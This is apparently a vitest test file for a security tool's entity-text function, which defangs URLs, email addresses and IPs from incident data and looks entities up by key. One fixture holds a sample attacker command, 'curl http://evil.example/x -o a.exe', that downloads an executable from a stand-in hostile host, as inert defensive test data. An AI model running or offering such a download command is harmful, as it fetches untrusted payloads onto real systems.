import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { TemporaryStore } from '../../../tests/support/store-builder.ts';
import { insert, temporaryStore } from '../../../tests/support/store-builder.ts';
import { entityText, entityTextOfKey } from './entity-text.ts';

let temporary: TemporaryStore;
beforeEach(() => {
  temporary = temporaryStore();
  const entity = (id: number, kind: string, key: string, label: string) =>
    insert(temporary.store, 'entity', { id, kind, key, label });
  entity(1, 'url', 'url|url||http://evil.example/a.b', 'http://evil.example/a.b');
  entity(2, 'mailMessage', 'mailMessage|networkMessageId||f4', 'dana@contoso.example');
  entity(3, 'process', 'process|start||7|1', 'curl http://evil.example/x -o a.exe');
  insert(temporary.store, 'identifier', {
    kind: 'mailMessage',
    namespace: 'internetMessageId',
    value: '<7|a@evil.example>',
    tenant: 't1',
    rank: 2,
    entity_id: 2,
  });
});
afterEach(() => temporary.remove());

describe('an entity in a sentence', () => {
  it('has its kind and its label, which no program turns into a link', () => {
    expect(entityText(temporary.store, 1)).toBe('URL hxxp://evil[.]example/a.b');
    expect(entityText(temporary.store, 2)).toBe('Email dana[@]contoso[.]example');
    expect(entityText(temporary.store, 3)).toBe('Process curl hxxp://evil[.]example/x -o a.exe');
    expect(entityText(temporary.store, 9)).toBe('An entity that is gone');
  });

  it('is found by the key that it has, and by one that it had', () => {
    const { store } = temporary;
    expect(entityTextOfKey(store, 'mailMessage|networkMessageId||f4')).toBe('Email dana[@]contoso[.]example');
    expect(entityTextOfKey(store, 'mailMessage|internetMessageId|t1|<7|a@evil.example>')).toBe(
      'Email dana[@]contoso[.]example',
    );
    expect(entityTextOfKey(store, 'process|start||7|1')).toContain('Process curl');
  });

  it('is told by its value where it is not in the store, and never as a key', () => {
    const { store } = temporary;
    expect(entityTextOfKey(store, 'ip|ip||203.0.113.9')).toBe('IP address 203[.]0[.]113[.]9');
    expect(entityTextOfKey(store, 'url|url|t1|http://gone.example/?a|b')).toBe(
      'URL hxxp://gone[.]example/?a|b',
    );
    expect(entityTextOfKey(store, 'see http://gone.example/')).toBe('see hxxp://gone[.]example/');
  });
});
